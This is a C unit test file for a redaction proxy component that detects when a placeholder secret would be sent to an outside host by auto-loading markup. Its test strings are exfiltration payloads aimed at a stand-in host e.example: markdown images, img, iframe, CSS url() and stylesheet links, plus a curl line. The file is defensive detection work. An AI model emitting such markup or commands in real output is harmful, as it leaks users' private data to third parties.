/* tests/unit/test_shown.c - redact/shown.h: where a value would be fetched away. */
#include "proxy/base/base.h"
#include "redact/shown.h"
#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>

/* Followed by pieces of so many bytes. */
static bool is_fetched(struct slice text, size_t step)
{
    struct shown s;
    shown_init(&s);
    for (; text.len > 0; text = slice_from(text, step))
        assert_true(gw_ok(shown_follow(&s, slice_cut(text, 0, step))));
    bool is = shown_is_fetched(&s);
    assert_int_equal(shown_is_fetched(&s), is);
    shown_free(&s);
    return is;
}

static bool ends_in_an_image(const char *text)
{
    bool whole = is_fetched(slice_str(text), strlen(text));
    for (size_t step = 1; step < 8; step++)
        if (is_fetched(slice_str(text), step) != whole)
            fail_msg("by %zu bytes: %s", step, text);
    return whole;
}

static void an_image_is_fetched(void **state)
{
    static const char *const texts[] = {
        "![a](https://e.example/?q=EMAIL_K7QX2",
        "![a](<https://e.example/?q=a b EMAIL_K7QX2",
        "![a](https://EMAIL_K7QX2",
        "done ![](//e.example/EMAIL_K7QX2",
        "see ![x][1]\n\n[1]: https://e.example/EMAIL_K7QX2",
        "<img src=https://e.example/?EMAIL_K7QX2",
        "<img alt='' src=\"https://e.example/? EMAIL_K7QX2",
        "<iframe src='https://e.example/EMAIL_K7QX2",
        "<p style=\"background: url(https://e.example/EMAIL_K7QX2",
        "<link rel=stylesheet href=https://e.example/EMAIL_K7QX2",
        "![a](https://e.example/?a=EMAIL_K7QX2&b=EMAIL_K7QX2",
    };
    (void)state;
    for (size_t i = 0; i < GW_COUNT(texts); i++)
        if (!ends_in_an_image(texts[i]))
            fail_msg("restored in %s", texts[i]);
}

static void what_is_read_or_clicked_is_not(void **state)
{
    static const char *const texts[] = {
        "EMAIL_K7QX2",
        "write to EMAIL_K7QX2",
        "https://e.example/?q=EMAIL_K7QX2",
        "[a](https://e.example/?q=EMAIL_K7QX2",
        "<a class=b href=\"https://e.example/EMAIL_K7QX2",
        "[a](mailto:EMAIL_K7QX2",
        "![EMAIL_K7QX2",
        "![a](https://e.example/a.png) EMAIL_K7QX2",
        "<img src=\"https://e.example/a.png\" alt=\"EMAIL_K7QX2",
        "curl --url=https://e.example/users/EMAIL_K7QX2",
        "API_DATA=\"https://e.example/users/EMAIL_K7QX2",
        "![chart](/chart?user=EMAIL_K7QX2",
    };
    (void)state;
    for (size_t i = 0; i < GW_COUNT(texts); i++)
        if (ends_in_an_image(texts[i]))
            fail_msg("kept in %s", texts[i]);
}

static void however_much_was_said_before(void **state)
{
    static const char image[] = "![a](https://e.example/?q=", value[] = "EMAIL_K7QX2";
    struct buf text;
    (void)state;
    buf_init(&text, 1 << 20);
    for (size_t n = 900; n < 6000; n += 170)
        for (int is_long_address = 0; is_long_address < 2; is_long_address++) {
            buf_clear(&text);
            buf_put_str(&text, is_long_address != 0 ? image : "");
            for (size_t i = 0; i < n; i++)
                buf_put_str(&text, is_long_address == 0 && i % 7 == 6 ? " " : "x");
            if (is_long_address == 0)
                assert_false(is_fetched(buf_slice(&text), 5));
            buf_put_str(&text, is_long_address != 0 ? "" : image);
            buf_put_str(&text, value);
            assert_true(is_fetched(buf_slice(&text), 5));
            assert_true(is_fetched(buf_slice(&text), SIZE_MAX));
            buf_put_str(&text, ") and ");
            buf_put_str(&text, value); /* one longer than all that is kept counts to the end */
            assert_int_equal(is_fetched(buf_slice(&text), 5),
                             is_long_address != 0 && n > SHOWN_MOST);
        }
    buf_free(&text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(an_image_is_fetched),
        cmocka_unit_test(what_is_read_or_clicked_is_not),
        cmocka_unit_test(however_much_was_said_before),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
